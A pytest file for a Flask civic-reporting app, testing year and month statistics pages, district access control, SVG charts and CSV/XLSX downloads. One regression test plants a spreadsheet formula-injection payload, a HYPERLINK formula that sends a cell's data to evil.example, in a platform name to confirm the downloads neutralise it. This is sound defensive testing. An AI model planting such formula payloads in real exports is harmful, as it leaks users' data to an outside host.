"""Reports: year and month views for staff and the public, their charts and downloads."""

from __future__ import annotations

import io
import xml.etree.ElementTree as ET
import zipfile
from datetime import UTC, date, datetime

import pytest
from flask import Flask
from openpyxl import load_workbook

from consult_hub.core.db import utcnow
from consult_hub.extensions import db
from consult_hub.tallies import charts, compute, queries
from consult_hub.tallies.tables import COUNT, TEXT, Cell, ChartSpec, Column, Table
from tests.support.querycount import count_queries
from tests.support.reports import (
    SENTENCE,
    SVG,
    City,
    build_city,
    check_chart,
    csv_rows,
    page_tables,
    plain,
    svgs,
)

# --- Reading pages like a user (and a spreadsheet) would ----------------------------------


# --- A small city ------------------------------------------------------------------------


def freeze_2024(app: Flask) -> None:
    with app.app_context():
        for month in range(1, 13):
            compute.freeze_month(date(2024, month, 1))


# --- Year view ---------------------------------------------------------------------------


@pytest.fixture()
def city(app: Flask) -> City:
    return build_city(app)


def test_year_view_prints_the_seed_sentence_for_the_city_and_a_district(app, client, city):
    freeze_2024(app)
    page = client.get("/reports/2024")
    assert page.status_code == 200
    # 3 platforms at the year's end; 12 + 12 + 1 events; 12 + 1 problems resolved.
    assert SENTENCE.format(year=2024, whole="全市", platforms=3, events=25, issues=13) in page.text
    district = client.get(f"/reports/2024?district={city.district_code}")
    assert SENTENCE.format(year=2024, whole="全区", platforms=2, events=13,
                           issues=1) in district.text
    assert city.district_name in district.text
    assert "各区对比" in page.text and "各区对比" not in district.text

    tables = page_tables(page.text)
    assert tables["monthly"][0] == ["月份", "开展协商议事活动（场次）", "已解决或采纳（个）"]
    assert tables["monthly"][4] == ["4月", "2", "2"]  # March's problem resolved in April
    assert tables["monthly"][-1] == ["全年", "25", "13"]
    assert tables["outcomes"][1] == ["已解决或采纳", "13", "100.0%"]
    assert tables["categories"][1][:2] == ["经济建设", "12"]
    assert tables["kinds"][1] == ["群众急难愁盼问题", "12", "12"]
    assert [row[0] for row in tables["districts"][1:]] == ["江岸区", "江汉区", "全市"]
    details = dict((row[0], row) for row in tables["details"])
    assert details["全年"][1] == "3"  # platforms at the year's end, not a sum of months


def test_a_year_of_frozen_months_is_read_in_one_query_not_computed(app, client, monkeypatch):
    def refuse(month: date) -> None:
        raise AssertionError(f"computed {month} live although it is frozen")

    def measure(city: City) -> list[int]:
        counts = []
        for path in ("/manage/reports/year/2024",
                     f"/manage/reports/year/2024?district={city.district_code}",
                     "/reports/2024"):
            client.get(path)  # settle the session
            with count_queries(app) as sql:
                assert client.get(path).status_code == 200, path
            assert sum("monthly_tallies" in s for s in sql) == 1, str(sql)
            counts.append(len(sql))
        return counts

    from tests.support.auth import AuthActions

    city = build_city(app)
    freeze_2024(app)
    monkeypatch.setattr(compute, "compute_month", refuse)
    AuthActions(client).login("cityadmin")
    few = measure(city)
    monkeypatch.undo()
    # More districts, platforms and months of data.
    build_city(app, extra_districts=4, with_users=False)
    freeze_2024(app)
    monkeypatch.setattr(compute, "compute_month", refuse)
    many = measure(city)
    assert few == many and max(many) <= 8, (few, many)


def counted_live(monkeypatch) -> list[date]:
    """The months compute_month is asked to count from here on (live, not from storage)."""
    live: list[date] = []
    real = compute.compute_month

    def counting(month: date, district_ids=None, **options):
        live.append(month)
        return real(month, district_ids, **options)

    monkeypatch.setattr(compute, "compute_month", counting)
    return live


def test_only_the_current_month_is_computed_live(app, client, city, monkeypatch):
    with app.app_context():
        this_month = queries.current_month(utcnow())
        for month in range(1, this_month.month):
            compute.freeze_month(date(this_month.year, month, 1))
    live = counted_live(monkeypatch)
    page = client.get(f"/reports/{this_month.year}")
    assert page.status_code == 200 and live == [this_month]
    assert "尚未结束或有月份尚未归档" in page.text
    assert client.get(f"/reports/{this_month.year + 1}").status_code == 404
    later = date(this_month.year + this_month.month // 12, this_month.month % 12 + 1, 1)
    assert client.get(f"/reports/{later.year}/{later.month:02d}").status_code == 404


def test_year_totals_take_stocks_from_the_last_month_and_shares_from_the_sums(ctx):
    first = {**queries.zero_metrics(), "platforms_total": 5, "issues_resolved": 3,
             "issues_planned": 1, "issues_backlog_end": 9, "platforms_active": 2,
             "median_days_to_resolve": 4.0}
    second = {**queries.zero_metrics(), "platforms_total": 7, "issues_resolved": 5,
              "issues_constrained": 1, "issues_backlog_end": 4, "platforms_active": 3}
    totals = queries.year_totals([first, second])
    assert totals["platforms_total"] == 7 and totals["issues_backlog_end"] == 4
    assert totals["issues_resolved"] == 8 and totals["resolution_share"] == 0.8
    assert totals["platforms_active"] is None and totals["median_days_to_resolve"] is None


# --- Month view --------------------------------------------------------------------------


def test_month_view_lists_every_metric_with_its_label(app, client, city):
    freeze_2024(app)
    page = client.get("/reports/2024/07")
    assert page.status_code == 200 and "2024年7月统计" in page.text
    figures = {row[0]: row[1:] for row in page_tables(page.text)["figures"][1:]}
    assert figures["开展协商议事活动"][:2] == ["3", "场次"]
    assert figures["新建平台"][0] == "0" and figures["平台总数"][0] == "3"
    assert figures["解决率"][0] == "100.0%" and "÷" in figures["解决率"][2]
    assert figures["满意率"][0] == "—"
    assert 'rel="prev"' in page.text and "/reports/2024/08" in page.text
    for bad in ("/reports/2024/13", "/reports/2024/7", "/reports/1999/01",
                "/reports/2024/07?district=nowhere", "/manage/reports/2024-13"):
        assert client.get(bad).status_code in (404, 302), bad


def test_public_month_shows_no_platform_table_and_staff_do(app, client, auth, city):
    freeze_2024(app)
    public = client.get(f"/reports/2024/07?district={city.district_code}")
    assert public.status_code == 200 and city.platform_name not in public.text
    assert "platforms" not in page_tables(public.text)
    refused = client.get("/reports/2024/07/download.csv"
                         f"?table=platforms&district={city.district_code}")
    assert refused.status_code == 404
    auth.login("jiangan")
    staff = client.get("/manage/reports/2024-07")
    rows = page_tables(staff.text)["platforms"]
    assert [city.platform_name, "1", "0", "0", "0", "0"] in rows


def test_a_platform_named_like_a_formula_is_text_in_every_report_download(
        app, client, auth, city):
    """Issue 12, item 9: the name used to become a live formula in the month's workbook."""
    import sqlalchemy as sa

    from consult_hub.models import Platform

    trap = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    with app.app_context():
        db.session.execute(sa.update(Platform).where(Platform.name == city.platform_name)
                           .values(name=trap))
        db.session.commit()
    freeze_2024(app)
    auth.login("jiangan")
    answer = client.get("/manage/reports/2024-07/download.xlsx")
    assert answer.status_code == 200
    book = load_workbook(io.BytesIO(answer.data))
    names = [cell for cell in book["各平台"]["A"] if cell.value and "HYPERLINK" in str(cell.value)]
    # A string cell shows the name as it is, no apostrophe, and never runs (issue 17, item 4).
    assert [(c.value, c.data_type) for c in names] == [(trap, "s")]
    archive = zipfile.ZipFile(io.BytesIO(answer.data))
    assert not [n for n in archive.namelist() if b"<f>" in archive.read(n)]  # no formula at all
    assert book["各平台"]["A1"].font.bold and book["各平台"].freeze_panes == "B2"
    table = client.get("/manage/reports/2024-07/download.csv?table=platforms")
    assert table.headers.getlist("Content-Type") == ["text/csv; charset=utf-8"]  # one charset
    assert ["'" + trap] == [row[0] for row in csv_rows(table.data) if "HYPERLINK" in row[0]]


# --- Who may read what -------------------------------------------------------------------


def test_district_admin_sees_only_their_district(app, client, auth, city):
    freeze_2024(app)
    auth.login("jiangan")
    page = client.get("/manage/reports/year/2024")
    assert page.status_code == 200
    assert f"{city.district_name} 2024年度报告" in page.text and city.other_name not in page.text
    assert SENTENCE.format(year=2024, whole="全区", platforms=2, events=13, issues=1) in page.text
    assert 'name="district"' not in page.text  # no picker: the district is fixed
    own = client.get(f"/manage/reports/year/2024?district={city.district_code}")
    assert own.status_code == 200
    for path in (f"/manage/reports/year/2024?district={city.other_code}",
                 f"/manage/reports/2024-05?district={city.other_code}",
                 f"/manage/reports/year/2024/download.xlsx?district={city.other_code}"):
        assert client.get(path).status_code == 403, path
    csv_data = client.get("/manage/reports/year/2024/download.csv?table=districts")
    assert csv_data.status_code == 404  # a district's report has no table of districts


def test_city_admin_picks_a_district(app, client, auth, city):
    auth.login("cityadmin")
    page = client.get("/manage/reports/year/2024")
    assert page.status_code == 200 and "武汉市 2024年度报告" in page.text
    assert f'<option value="{city.other_code}"' in page.text
    chosen = client.get(f"/manage/reports/year/2024?district={city.other_code}")
    assert f"{city.other_name} 2024年度报告" in chosen.text
    assert client.get("/manage/reports").status_code == 200
    assert client.get("/manage/reports/year/2024?district=nowhere").status_code == 404


@pytest.mark.parametrize("path", ["/manage/reports", "/manage/reports/year/2024",
                                  "/manage/reports/2024-05",
                                  "/manage/reports/year/2024/download.xlsx"])
def test_coordinators_may_not_read_staff_reports(client, auth, city, path):
    assert client.get(path).status_code == 302  # to the login page
    auth.login("coord")
    assert client.get(path).status_code == 403


def test_public_reports_need_no_login_and_the_nav_links_them(client, city):
    index = client.get("/reports")
    assert index.status_code == 200 and 'href="/reports/2024"' in index.text
    assert 'href="/reports/2024/05"' in index.text
    assert 'href="/reports">年度报告</a>' in client.get("/").text
    for path in ("/reports/2024", "/reports/2024/05", f"/reports/2024?district={city.other_code}",
                 "/reports/2024/download.xlsx"):
        assert client.get(path).status_code == 200, path


# --- Charts and downloads ----------------------------------------------------------------


def test_charts_are_svg_with_a_title_and_no_style_attributes(app, client, city):
    freeze_2024(app)
    for path in ("/reports/2024", "/reports/2024/06"):
        page = client.get(path)
        drawn = svgs(page.text)
        assert len(drawn) >= 4, path
        for svg in drawn:
            check_chart(svg)
        assert " style=" not in page.text and "<script" not in page.text
    titles = [svg.find(f"{SVG}title").text for svg in svgs(client.get("/reports/2024").text)]
    assert titles[:2] == ["各月协商议事活动和解决问题", "办理结果"]


def test_chart_text_is_escaped(app):
    table = Table("t", "<b>&标题</b>", [Column("类别", TEXT), Column("数<量>", COUNT)],
                  [[Cell("A&B <x>", TEXT), Cell(3)], [Cell("\"引号\"", TEXT), Cell(0)]],
                  chart=ChartSpec("bars", (1,)))
    with app.test_request_context():
        for style in ("bars", "columns"):
            table.chart = ChartSpec(style, (1,))
            svg = ET.fromstring(str(charts.render(table, "c1")))
            check_chart(svg)
            assert svg.find(f"{SVG}title").text == "<b>&标题</b>"
            assert "A&B <x>" in [t.text for t in svg.iter(f"{SVG}text")]


def test_csv_and_xlsx_downloads_match_the_page(app, client, city):
    freeze_2024(app)
    page = page_tables(client.get("/reports/2024").text)
    for name, shown in page.items():
        answer = client.get(f"/reports/2024/download.csv?table={name}")
        assert answer.status_code == 200 and answer.mimetype == "text/csv"
        assert csv_rows(answer.data) == [shown[0]] + [[plain(c) for c in row] for row in shown[1:]]
        disposition = answer.headers["Content-Disposition"]
        assert disposition.startswith("attachment;") and "filename*=UTF-8''" in disposition
        assert f'filename="report-2024-city-{name}.csv"' in disposition

    answer = client.get("/reports/2024/download.xlsx?table=monthly")
    assert "%E6%AD%A6%E6%B1%89%E5%B8%82" in answer.headers["Content-Disposition"]  # 武汉市
    sheet = load_workbook(io.BytesIO(answer.data)).active
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0] == page["monthly"][0]
    assert values[1] == ["1月", 2, 1] and values[-1] == ["全年", 25, 13]
    assert all(isinstance(v, int) for row in values[1:] for v in row[1:])

    book = load_workbook(io.BytesIO(client.get("/reports/2024/download.xlsx").data))
    assert len(book.sheetnames) == len(page)
    outcomes = book["办理结果"]
    assert outcomes["C2"].value == 1.0 and outcomes["C2"].number_format == "0.0%"
    assert client.get("/reports/2024/download.csv").status_code == 404  # which table?
    assert client.get("/reports/2024/download.csv?table=nope").status_code == 404
    month = client.get(f"/reports/2024/07/download.csv?table=figures&district={city.district_code}")
    assert f'filename="report-2024-07-{city.district_code}-figures.csv"' in month.headers[
        "Content-Disposition"]
    assert csv_rows(month.data)[0] == ["指标", "数值", "单位", "说明"]


def test_the_running_month_is_read_from_the_schedulers_count_while_it_is_fresh(
        app, client, city, monkeypatch):
    """The scheduler stores the month so far every ten minutes; reports read it, not recount."""
    from consult_hub.scheduler import JOBS

    [(_name, job, trigger)] = [j for j in JOBS if j[0] == "current_tally"]
    assert trigger == {"trigger": "interval", "minutes": 10, "misfire_grace_time": 600}
    now = utcnow()
    with app.app_context():
        this_month = queries.current_month(now)
        job(now)  # what the scheduler does
        stored = compute.frozen_city(this_month)
        assert stored is not None
        assert compute.months_to_freeze(now)[-1:] != [this_month]  # never counts as final
    live = counted_live(monkeypatch)
    page = client.get(f"/reports/{this_month.year}/{this_month.month:02d}")
    assert page.status_code == 200 and live == [] and "尚未归档" in page.text
    monkeypatch.setitem(app.config, "TALLY_LIVE_MAX_AGE_MINUTES", 0)  # the scheduler is down
    app.extensions["page_cache"].clear()
    assert client.get(f"/reports/{this_month.year}/{this_month.month:02d}").status_code == 200
    assert live == [this_month]  # counted afresh rather than shown stale


def test_a_month_counted_before_it_ended_is_frozen_again_after(app, city):
    with app.app_context():
        compute.freeze_month(date(2024, 11, 1), now=datetime(2024, 11, 30, 8, tzinfo=UTC))
        assert date(2024, 11, 1) in compute.months_to_freeze(datetime(2024, 12, 2, tzinfo=UTC))
        compute.freeze_month(date(2024, 11, 1), now=datetime(2024, 12, 1, 2, tzinfo=UTC))
        assert date(2024, 11, 1) not in compute.months_to_freeze(datetime(2024, 12, 2, tzinfo=UTC))
